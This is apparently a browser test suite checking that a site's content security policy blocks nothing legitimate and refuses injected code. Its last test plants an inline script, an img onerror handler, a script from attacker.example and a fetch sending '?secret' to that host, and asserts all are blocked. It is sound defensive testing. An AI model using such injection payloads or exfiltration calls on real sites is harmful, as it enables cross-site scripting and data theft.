"""Every page under the content policy of visitors: nothing that it loads or runs is refused by the browser.

The other browser tests run under the policy of who sits at the machine, which differs only in that text may be
evaluated. They save files and pictures.
"""

import re
from collections.abc import Iterator
from contextlib import closing

import pytest
from playwright.sync_api import Page

from benchmarks.browser import wait_until_drawn
from pages.shared.site import PAGES
from tests.chromium import Chromium
from tests.served import Served

pytestmark = pytest.mark.browser
TEXT = "text=A+wonderful+film,+but+dull"
# Pages whose default view shows less than others of theirs do.
VIEWS = {
    "review": f"{TEXT}&methods=true",
    "memory": TEXT,
    "test_set": "part=curves",
    "mechanics": "step=states",
}
LISTEN = """
window.refused = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.refused.push([event.effectiveDirective, event.blockedURI, event.sourceFile].join(" "));
});
"""
# Streamlit's library for messages tries to compile eight lines of WebAssembly, and does without.
KNOWN = re.compile(r"script-src wasm-eval .*/protobuf\.[^/]*\.js")


@pytest.fixture(scope="module")
def enforcing(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A server whose visitors train and open classes, so that their pages show all they have."""
    runs = str(tmp_path_factory.mktemp("policy-runs"))
    with closing(Served(SENTIMENT_RUNS=runs, SENTIMENT_TRAINING="on", SENTIMENT_CLASSES="on")) as started:
        yield started


@pytest.fixture
def tab(browser: Chromium, enforcing: Served) -> Iterator[Page]:
    far = {"X-Forwarded-For": "192.0.2.1"}  # as through a proxy: no local visitor
    screen = {"width": 1280, "height": 800}
    with browser.visit(enforcing.get().address, viewport=screen, extra_http_headers=far) as context:
        page = context.new_page()
        page.add_init_script(LISTEN)
        complaints: list[str] = []
        page.on("console", lambda message: complaints.append(message.text) if message.type == "error" else None)
        page.on("pageerror", lambda error: complaints.append(str(error)))
        yield page
    assert [
        line
        for line in complaints
        if "attacker.example" not in line and "inline" not in line and "unsafe-eval" not in line
    ] == []


def refused(page: Page) -> list[str]:
    """What the browser refused on this page."""
    return [line for line in page.evaluate("window.refused") if not KNOWN.fullmatch(line)]


@pytest.mark.parametrize("address", [page.address for page in PAGES])
def test_no_page_meets_its_policy(tab: Page, address: str):
    tab.goto(f"/{address}?{VIEWS.get(address, '')}")
    wait_until_drawn(tab)
    assert refused(tab) == []


def test_a_script_that_somebody_smuggles_in_does_not_run(tab: Page):
    """The policy is the last line: the pages escape text anyway."""
    tab.goto("/")
    wait_until_drawn(tab)
    ran = tab.evaluate(
        """async () => {
          const script = document.createElement("script");
          script.textContent = "window.ran = 'inline'";
          document.body.append(script);
          const far = document.createElement("script");
          far.src = "https://attacker.example/a.js";
          document.body.append(far);
          const image = document.createElement("div");
          image.innerHTML = "<img src=x onerror=\\"window.ran = 'handler'\\">";
          document.body.append(image);
          // Later, because what the browser's tools run at once may evaluate text under any policy.
          const evaluated = await new Promise((done) => setTimeout(() => {
            try { done(new Function("return 'evaluated'")()); } catch { done(null); }
          }));
          const sent = await fetch("https://attacker.example/?secret").then(() => "sent", () => null);
          await new Promise((done) => setTimeout(done, 100));
          return [window.ran ?? null, evaluated, sent];
        }"""
    )
    assert ran == [None, None, None]
    found = " ".join(refused(tab))
    assert all(
        part in found for part in ("script-src-elem inline", "attacker.example", "script-src-attr", "connect-src")
    )
